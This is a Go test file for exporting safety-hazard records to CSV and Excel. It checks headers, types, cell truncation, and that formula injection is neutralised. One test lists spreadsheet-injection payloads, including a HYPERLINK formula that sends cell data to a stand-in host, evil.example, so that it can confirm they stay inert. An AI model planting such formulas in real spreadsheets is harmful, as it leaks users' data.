package supervise

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"safegrid/grid"
)

func exportFixture() []HazardItem {
	s := func(v string) *string { return &v }
	return []HazardItem{
		{ID: 7, Code: "HZ0000000007", Level: "重大", Category: "消防安全", Description: "通道堵塞, \"严重\"\n两处", Status: "assigned",
			Deadline: s("2026-12-01"), Overdue: true, StreetCode: s("310101001"), StreetName: s("甲街道"),
			CommunityCode: s("310101001001"), CommunityName: s("甲一居委"),
			Feature:  &FeatureRef{Kind: "enterprises", Code: "91310100000000001X", Name: s("测试企业")},
			Location: LonLatPoint{Lon: 121.4737, Lat: 31.2304}, ReportedAt: grid.TimeOf(time.Date(2026, 10, 1, 1, 2, 3, 456789000, time.UTC))},
		{ID: 8, Code: "HZ8", Level: "一般", Category: "用电", Description: "d", Status: "closed",
			Location: LonLatPoint{Lon: 121.5, Lat: 31.25}, ReportedAt: grid.TimeOf(time.Date(2026, 10, 2, 16, 0, 0, 0, time.FixedZone("CST", 8*3600)))},
	}
}

var exportWant = [][]string{
	{"序号", "隐患编号", "隐患等级", "隐患类别", "隐患描述", "状态", "整改期限", "是否逾期", "街道编码", "街道名称", "社区编码", "社区名称", "关联对象类型", "关联对象编码", "关联对象名称", "经度", "纬度", "上报时间 (UTC)"},
	{"7", "HZ0000000007", "重大", "消防安全", "通道堵塞, \"严重\"\n两处", "派遣", "2026-12-01", "是", "310101001", "甲街道", "310101001001", "甲一居委", "生产经营单位", "91310100000000001X", "测试企业", "121.4737", "31.2304", "2026-10-01T01:02:03.456Z"},
	{"8", "HZ8", "一般", "用电", "d", "销号", "", "否", "", "", "", "", "", "", "", "121.5", "31.25", "2026-10-02T08:00:00.000Z"},
}

func TestWriteHazardsCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteHazardsCSV(&buf, exportFixture()); err != nil {
		t.Fatal(err)
	}
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatal("no byte-order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.EqualFunc(rows, exportWant, slices.Equal) {
		t.Errorf("rows\n%q\nwant\n%q", rows, exportWant)
	}
}

func TestWriteHazardsXLSX(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteHazardsXLSX(&buf, exportFixture()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if f.GetSheetName(0) != "隐患清单" {
		t.Errorf("sheet %q", f.GetSheetName(0))
	}
	rows, err := f.GetRows("隐患清单")
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < len(exportWant[0]) {
			rows[i] = append(rows[i], "")
		}
	}
	if !slices.EqualFunc(rows, exportWant, slices.Equal) {
		t.Errorf("rows\n%q\nwant\n%q", rows, exportWant)
	}
	// Ids and coordinates are numbers, so Excel can sort and sum them.
	for _, cell := range []string{"A2", "P2", "Q2"} {
		if typ, _ := f.GetCellType("隐患清单", cell); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s has type %v", cell, typ)
		}
	}
}

// A description that is a formula stays text: a quoted cell in the CSV (OWASP's rule), a
// typed string, never a formula, in the workbook.
func TestExportsDoNotRunFormulas(t *testing.T) {
	items := exportFixture()
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	items[0].Description, items[0].Category = evil[0], evil[1]
	items[1].Description, items[1].Category = evil[2], evil[3]
	items[0].CommunityName, items[1].Code = &evil[4], evil[5]

	var buf bytes.Buffer
	if err := WriteHazardsCSV(&buf, items); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range [][2]int{{1, 4}, {1, 3}, {2, 4}, {2, 3}, {1, 11}, {2, 1}} {
		got := rows[cell[0]][cell[1]]
		if len(got) < 2 || got[0] != '\'' || !slices.Contains(evil, got[1:]) {
			t.Errorf("csv row %d column %d: %q is not a neutralised formula", cell[0], cell[1], got)
		}
	}
	if rows[1][15] != "121.4737" {
		t.Errorf("a number was changed: %q", rows[1][15])
	}

	buf.Reset()
	if err := WriteHazardsXLSX(&buf, items); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"E2", "D2", "E3", "D3"} {
		if formula, _ := f.GetCellFormula("隐患清单", cell); formula != "" {
			t.Errorf("%s is the formula %q", cell, formula)
		}
		if v, _ := f.GetCellValue("隐患清单", cell); !slices.Contains(evil, v) {
			t.Errorf("%s holds %q", cell, v)
		}
	}
	if bytes.Contains(unzipped(t, buf.Bytes(), "xl/worksheets/sheet1.xml"), []byte("<f>")) {
		t.Error("the sheet holds a formula element")
	}
}

// A text longer than an Excel cell is cut with a mark and listed on the 说明 sheet, not
// cut without a word (excelize stops at 32,767 UTF-16 units by itself).
func TestXLSXSaysWhatItCut(t *testing.T) {
	items := exportFixture()
	items[1].Description = strings.Repeat("隐", 40000)
	var buf bytes.Buffer
	if err := WriteHazardsXLSX(&buf, items); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	v, _ := f.GetCellValue("隐患清单", "E3")
	if !strings.HasSuffix(v, xlsxCutMark) || utf16Len(v) > xlsxCellChars {
		t.Errorf("cut cell: %d units, ends %q", utf16Len(v), v[max(0, len(v)-60):])
	}
	if v, _ := f.GetCellValue("隐患清单", "E2"); v != items[0].Description {
		t.Errorf("an uncut cell changed: %q", v)
	}
	rows, err := f.GetRows("说明")
	if err != nil {
		t.Fatalf("no 说明 sheet: %v", err)
	}
	want := [][]string{{"单元格", "隐患编号", "列", "原长度（字符）"}, {"E3", "HZ8", "隐患描述", "40000"}}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("说明 %q, want %q", rows, want)
	}
	// A workbook with nothing cut has no such sheet.
	buf.Reset()
	if err := WriteHazardsXLSX(&buf, exportFixture()); err != nil {
		t.Fatal(err)
	}
	g, _ := excelize.OpenReader(&buf)
	defer g.Close()
	if idx, _ := g.GetSheetIndex("说明"); idx >= 0 {
		t.Error("a 说明 sheet without cuts")
	}
}

func unzipped(t *testing.T, data []byte, name string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
